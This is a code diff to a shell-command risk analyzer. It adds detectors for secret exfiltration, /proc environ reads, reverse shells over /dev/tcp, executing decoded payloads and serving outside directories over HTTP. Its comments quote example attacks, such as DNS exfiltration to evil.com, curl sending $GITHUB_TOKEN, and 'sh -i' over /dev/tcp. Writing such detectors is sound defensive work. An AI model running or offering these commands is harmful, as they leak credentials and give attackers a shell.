@@ -1583,12 +1583,19 @@ _NAMES_ONLY = LISTING | frozenset(
 )
 
 
+_PROC_ENVIRON = re.compile(r"^/proc/[^/\s]+/environ$")
+
+
 def _generic(an: Analyzer, c: SimpleCommand) -> None:
     """Secrets named in any argument: whatever the program, it is handed a secret."""
     info = an.ci(c)
     for w in c.args:
         v = w.value
         if w.span in info.seen:
+            continue
+        if v is None and _PROC_ENVIRON.search(w.text):
+            # /proc/$$/environ, /proc/$PID/environ: whichever process, it is its secrets
+            read_target(an, c, Word("/proc/self/environ", w.text, w.span))
             continue
         if not v or (v.startswith("-") and "=" not in v):
             continue
@@ -1879,6 +1886,12 @@ def h_build(an: Analyzer, c: SimpleCommand) -> None:
         "turbo",
         "doit",
     ):
+        dry = name in ("make", "gmake") and any(
+            (w.value or "") in ("-n", "--dry-run", "--just-print", "--recon") for w in c.args
+        )
+        if dry:
+            an.add(K.RESOURCE, 5, f"`{name}` only prints what it would run", c.argv[0].span)
+            return
         for w in c.args:
             v = w.value or ""
             if not v.startswith("-") and "=" not in v and PUBLISH_WORDS.match(v):
@@ -3418,7 +3431,11 @@ def h_disk(an: Analyzer, c: SimpleCommand) -> None:
     if read_only and name not in ("mkfs", "wipefs", "blkdiscard"):
         an.add(K.PRIVILEGE, 20, f"`{name}` reads the partition table", c.span)
         return
-    target = pos[-1] if pos else None
+    devices = [w for w in pos if (w.value or "").startswith("/dev/")]
+    device_first = name in ("parted", "fdisk", "sfdisk", "gdisk", "sgdisk", "cfdisk", "hdparm")
+    target = (
+        devices[0] if devices else (pos[0] if device_first and pos else pos[-1] if pos else None)
+    )
     if target is not None and target.value:
         info = an.path(c, target.value)
         if info.where in ("workspace", "tmp"):
@@ -4779,11 +4796,16 @@ def h_npm(an: Analyzer, c: SimpleCommand) -> None:
         sub in ("config", "set") and any(w.value in ("set", "edit", "delete") for w in rest)
     ) or sub == "set":
         registry = any("registry" in (w.value or "") for w in rest)
+        project = any((w.value or "") in ("--location=project", "--project") for w in c.args) or (
+            any(w.value == "--location" for w in c.args)
+            and any(w.value == "project" for w in c.args)
+        )
         an.add(
             K.SUPPLY_CHAIN,
-            70 if registry else 55,
+            70 if registry else 55 if project else 62,
             f"changes {name}'s configuration"
-            + (" so packages come from another registry" if registry else " (scripts, tokens)"),
+            + (" so packages come from another registry" if registry else " (scripts, tokens)")
+            + ("" if project else " for every project on this machine, outside the workspace"),
             c.span,
         )
         return
@@ -5124,6 +5146,24 @@ def h_python(an: Analyzer, c: SimpleCommand) -> None:
                     an.add(K.RESOURCE, 5, "runs a flask command", c.span)
                     return
                 port = next((x.best for x in rest if (x.value or "").isdigit()), "")
+                served = next(
+                    (
+                        rest[i + 1]
+                        for i, x in enumerate(rest[:-1])
+                        if x.value in ("-d", "--directory")
+                    ),
+                    None,
+                )
+                if served is not None and served.value is not None:
+                    where = an.path(c, served.value)
+                    if where.where == "outside":
+                        an.add(
+                            K.EXFILTRATION,
+                            75,
+                            f"serves {where.display} to anyone who can connect: every file in it "
+                            "can be downloaded",
+                            served.span,
+                        )
                 an.add(
                     K.NETWORK,
                     40,
@@ -5418,6 +5458,12 @@ def _decoder_flag(an: Analyzer, c: SimpleCommand, flags: tuple[str, ...]) -> Non
             read_target(an, c, w)
 
 
+_SECRET_VAR = re.compile(
+    r"\$\{?(\w*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)\w*)",
+    re.I,
+)
+
+
 def _echo(an: Analyzer, c: SimpleCommand) -> None:
     """echo/printf: printing a secret-looking variable hands it to the agent; printf with
     escapes is a decoder."""
@@ -5524,6 +5570,22 @@ def analyze_flows(an: Analyzer) -> None:
         # senders fed by a pipe
         if info.sender is not None or (name in DOWNLOADERS and info.sender_label):
             _judge_send(an, c, up)
+        # network tools handed a secret-looking variable (curl -H "X-Token: $GITHUB_TOKEN")
+        if info.network or info.sender is not None:
+            for w in c.args:
+                m = _SECRET_VAR.search(w.text) if w.dynamic else None
+                if m is not None:
+                    where = info.sender_label or (
+                        an.facts.hosts[-1] if an.facts.hosts else "the network"
+                    )
+                    an.add(
+                        K.EXFILTRATION,
+                        75,
+                        f"sends ${m.group(1)}, which looks like a secret, to {where} with `{name}`",
+                        w.span,
+                    )
+                    an.facts.sends_data.append(where)
+                    break
         # network tools with substitutions (dig $(cat secret).evil.com, curl -d "$x")
         if info.network or info.sender is not None:
             for w in c.args:
@@ -5566,6 +5628,13 @@ def analyze_flows(an: Analyzer) -> None:
         c = cmds[owner]
         inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
         _judge_code_source(an, c, inner, w.span, c.name or "shell")
+    for c in cmds:
+        # `cmd=$(… | base64 -d); $cmd`: the command itself is what a decoder or download made.
+        if c.name is not None or not c.argv or not c.argv[0].subs:
+            continue
+        inner = [i for s in c.argv[0].subs for i in [s, *sc.nested(s)]]
+        if any(an.ci(cmds[i]).decoder or an.ci(cmds[i]).download is not None for i in inner):
+            _judge_code_source(an, c, inner, c.argv[0].span, "the shell")
 
 
 def _run_code_text(
@@ -5760,6 +5829,9 @@ def _judge_send(an: Analyzer, c: SimpleCommand, up: list[int]) -> None:
 # --------------------------------------------------------------------------- script-level
 
 
+_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")
+
+
 def analyze_script(an: Analyzer) -> None:
     sc = an.script
     if sc.errors:
@@ -5772,6 +5844,17 @@ def analyze_script(an: Analyzer) -> None:
         )
     if sc.too_deep:
         an.add(K.OBFUSCATION, 60, "shell code is nested too deeply to review", (0, len(an.text)))
+    if sc.errors or "<>" in an.text:
+        # Text the parser could not place (`sh -i 5<> /dev/tcp/…`): a raw connection is still one.
+        for m in _DEV_NET.finditer(an.text):
+            shell = re.search(r"\b(ba|z|da|k)?sh\b[^|;&]*\s-i\b", an.text)
+            an.add(
+                K.PRIVILEGE if shell else K.NETWORK,
+                95 if shell else 65,
+                f"opens a raw network connection to {m.group(2)}:{m.group(3)} through "
+                f"/dev/{m.group(1)}" + (" and hands it a shell (a reverse shell)" if shell else ""),
+                m.span(),
+            )
     for span in sc.endless:
         an.add(K.RESOURCE, 45, "loops forever: nothing in the loop ends it", span)
     if sc.too_large:
